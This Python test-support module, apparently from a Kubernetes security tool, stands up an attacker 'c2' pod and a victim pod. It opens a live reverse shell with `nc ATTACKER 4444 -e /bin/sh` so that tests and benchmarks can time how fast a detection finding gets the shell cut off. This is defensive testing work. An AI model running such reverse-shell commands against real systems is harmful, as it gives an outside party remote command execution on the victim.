"""A real reverse shell on the local node, observed from the attacker's side of the socket.

The attacker is a pod in a namespace of its own. It listens on :data:`SHELL_PORT` and, once a shell connects, sends
the command ``echo pong N`` five times a second; every answer it gets back is written to its stdout, so the
container runtime stamps each one (CRI log timestamps, nanoseconds). Whether the attacker still has a shell is read
from there: the answers that reached it and when, exactly what the attacker would see. It also answers new
connections on :data:`PROBE_PORT` with ``c2-hello``.

The victim is a Deployment pod serving ``victim-hello`` on :data:`SERVICE_PORT` (so new connections can be tried in
both directions) into which the "exploit" starts the shell the way the finding describes: ``nc ATTACKER 4444 -e
/bin/sh``, a process of its own in the container.

Used by the node tests (tests/node/test_reverse_shell.py), `make demo` and `make bench`.
"""

from __future__ import annotations

import re
import threading
import time
import uuid
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import Any

from kubernetes import client

from tests.notifications import notification
from tests.support import workloads as w

SHELL_PORT = 4444
PROBE_PORT = 4445
SERVICE_PORT = 8080


def attacker_command(interval_s: float = 0.2) -> str:
    """The attacker: a command loop into `nc -l`, whose output (the shell's answers) goes to the container log."""
    return (
        f"(while :; do nc -l -p {PROBE_PORT} -e echo c2-hello; done) & "
        "while :; do "
        "  echo session waiting; "
        f'  (n=0; while :; do n=$((n+1)); echo "echo pong $n"; sleep {interval_s}; done) '
        f"    | nc -l -p {SHELL_PORT}; "
        "  echo session closed; "
        "done"
    )


# The compromised workload: a service on 8080 (`victim-hello`), the kind of process an attacker breaks into.
VICTIM = f"echo shop api listening on {SERVICE_PORT}; while :; do nc -l -p {SERVICE_PORT} -e echo victim-hello; done"


def spawn_shell(api: client.ApiClient, namespace: str, pod: str, attacker_ip: str) -> None:
    """What the exploit does: start `nc ATTACKER 4444 -e /bin/sh` in the container, detached from the request."""
    exec_out(
        api, namespace, pod, ["sh", "-c", f"nc {attacker_ip} {SHELL_PORT} -e /bin/sh </dev/null >/dev/null 2>&1 &"]
    )


_ANSWER = re.compile(r"^(\S+) pong (\d+)$")


def _when(stamp: str) -> datetime:
    # RFC 3339 with nanoseconds: Python keeps microseconds.
    head, _, frac = stamp.rstrip("Z").partition(".")
    return datetime.fromisoformat(f"{head}.{(frac + '000000')[:6]}+00:00")


@dataclass
class Shell:
    """A live reverse shell between a victim pod and an attacker pod."""

    api: client.ApiClient
    attacker_namespace: str
    attacker_pod: str
    attacker_ip: str
    victim_namespace: str
    victim_pod: Any  # the V1Pod as read once running
    victim_ip: str
    victim_port: int | None = None  # the shell's local port, read from the victim's /proc/net/tcp

    def answers(self) -> list[datetime]:
        """When each answer reached the attacker (its log's timestamps), oldest first."""
        text = client.CoreV1Api(self.api).read_namespaced_pod_log(
            self.attacker_pod, self.attacker_namespace, timestamps=True
        )
        return [_when(m.group(1)) for line in text.splitlines() if (m := _ANSWER.match(line.strip()))]

    def log(self) -> str:
        return str(
            client.CoreV1Api(self.api).read_namespaced_pod_log(
                self.attacker_pod, self.attacker_namespace, timestamps=True
            )
        )

    def finding(self, **overrides: Any) -> dict[str, Any]:
        """The Reverse Shell finding Container Threat Detection would raise for this shell, happening now."""
        doc = notification(
            namespace=self.victim_namespace,
            pod=self.victim_pod.metadata.name,
            container=self.victim_pod.spec.containers[0].name,
            name_suffix=uuid.uuid4().hex,
            **overrides,
        )
        props = doc["finding"]["sourceProperties"]
        props["Reverse_Shell_Stdin_Redirection_Dst_Ip"] = self.attacker_ip
        props["Reverse_Shell_Stdin_Redirection_Dst_Port"] = str(SHELL_PORT)
        props["Reverse_Shell_Stdin_Redirection_Src_Ip"] = self.victim_ip
        if self.victim_port is not None:
            props["Reverse_Shell_Stdin_Redirection_Src_Port"] = str(self.victim_port)
        return doc

    def wait_for_answers(self, count: int = 3, timeout_s: float = 60.0) -> list[datetime]:
        deadline = time.monotonic() + timeout_s
        seen: list[datetime] = []
        while time.monotonic() < deadline:
            seen = self.answers()
            if len(seen) >= count:
                return seen
            time.sleep(0.3)
        raise AssertionError(f"the shell never answered the attacker {count} times:\n{self.log()[-2000:]}")

    def wait_for_silence(self, quiet_s: float = 3.0, timeout_s: float = 60.0) -> datetime | None:
        """The time of the last answer once none has come for ``quiet_s`` (while the attacker keeps sending), or
        None when answers were still arriving after ``timeout_s``: the shell is alive."""
        deadline = time.monotonic() + timeout_s
        most = 0
        while time.monotonic() < deadline:
            seen = self.answers()
            if len(seen) < most or not seen:
                # The attacker's log lost lines it had: not the shell's doing. Every kubelet on a machine garbage-
                # collects /var/log/pods entries of pods it does not know, so a second local cluster can remove them.
                raise AssertionError(
                    f"the attacker's container log lost its answers ({most} -> {len(seen)}): is another local "
                    "cluster running on this machine? (its kubelet removes other nodes' /var/log/pods entries)"
                )
            most = len(seen)
            last = seen[-1]
            if (datetime.now(UTC) - last).total_seconds() >= quiet_s:
                return last
            time.sleep(0.5)
        return None

    def answered_in(self, start: datetime, end: datetime) -> int:
        return sum(1 for t in self.answers() if start <= t <= end)


def labelled_at(api: client.ApiClient, namespace: str, pod: str, label: str, stop: threading.Event) -> list[datetime]:
    """Watches the pod (as the dataplane's informers do) until it carries ``label``, or ``stop``; returns [when the
    apiserver's event arrived] (empty if it never did)."""
    from kubernetes import watch

    core = client.CoreV1Api(api)
    listed = core.list_namespaced_pod(namespace, field_selector=f"metadata.name={pod}")
    if any(label in (p.metadata.labels or {}) for p in listed.items):
        return [datetime.now(UTC)]
    version = listed.metadata.resource_version
    while not stop.is_set():
        stream = watch.Watch()
        for event in stream.stream(
            core.list_namespaced_pod,
            namespace,
            field_selector=f"metadata.name={pod}",
            resource_version=version,
            timeout_seconds=1,
        ):
            seen = event["object"]
            version = seen.metadata.resource_version
            if label in (seen.metadata.labels or {}):
                stream.stop()
                return [datetime.now(UTC)]
    return []


def exec_out(api: client.ApiClient, namespace: str, pod: str, argv: list[str]) -> str:
    from kubernetes.stream import stream

    return str(
        stream(
            client.CoreV1Api(api).connect_get_namespaced_pod_exec,
            pod,
            namespace,
            command=argv,
            stderr=True,
            stdin=False,
            stdout=True,
            tty=False,
        )
    )


def connects(api: client.ApiClient, namespace: str, pod: str, ip: str, port: int, wait_s: int = 2) -> bool:
    """Whether a new TCP connection from ``pod`` to ``ip:port`` is answered (the far end says hello)."""
    out = exec_out(api, namespace, pod, ["nc", "-w", str(wait_s), ip, str(port)])
    return "hello" in out


def _shell_port(api: client.ApiClient, victim: Any, attacker_ip: str) -> int | None:
    text = exec_out(api, victim.metadata.namespace, victim.metadata.name, ["cat", "/proc/net/tcp"])
    want = "".join(f"{int(octet):02X}" for octet in reversed(attacker_ip.split(".")))
    for line in text.splitlines()[1:]:
        fields = line.split()
        if len(fields) > 3 and fields[2] == f"{want}:{SHELL_PORT:04X}" and fields[3] == "01":
            return int(fields[1].split(":")[1], 16)
    return None


def create_namespace(api: client.ApiClient, prefix: str) -> str:
    name = f"{prefix}-{uuid.uuid4().hex[:6]}"
    client.CoreV1Api(api).create_namespace({"metadata": {"name": name, "labels": {"rsr-test": "true"}}})
    return name


def start_attacker(api: client.ApiClient, namespace: str, interval_s: float = 0.2) -> str:
    """The attacker's pod (c2) in ``namespace``, listening for one shell at a time, sending a command every
    ``interval_s`` once one connects (the resolution of "when did the answers stop"); returns its IP."""
    attacker = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": "c2", "labels": {"app": "c2"}},
        "spec": w.runnable_spec(attacker_command(interval_s), container="c2"),
    }
    client.CoreV1Api(api).create_namespaced_pod(namespace, attacker)
    (c2,) = w.wait_for_running(api, namespace, 1, "app=c2")
    return str(c2.status.pod_ip)


def open_shell(
    api: client.ApiClient,
    victim_namespace: str,
    attacker_namespace: str,
    app: str = "shop",
    victim: Any = None,
    interval_s: float = 0.2,
) -> Shell:
    """Start the attacker and the victim (unless ``victim`` is a running pod), open the shell, and return once the
    attacker gets answers through it."""
    attacker_ip = start_attacker(api, attacker_namespace, interval_s)
    if victim is None:
        w.create_running_deployment(api, victim_namespace, app, 1, VICTIM)
        (victim,) = w.wait_for_running(api, victim_namespace, 1, f"app={app}")
    spawn_shell(api, victim_namespace, victim.metadata.name, attacker_ip)
    shell = Shell(
        api=api,
        attacker_namespace=attacker_namespace,
        attacker_pod="c2",
        attacker_ip=attacker_ip,
        victim_namespace=victim_namespace,
        victim_pod=victim,
        victim_ip=victim.status.pod_ip,
    )
    shell.wait_for_answers()
    shell.victim_port = _shell_port(api, victim, attacker_ip)
    return shell
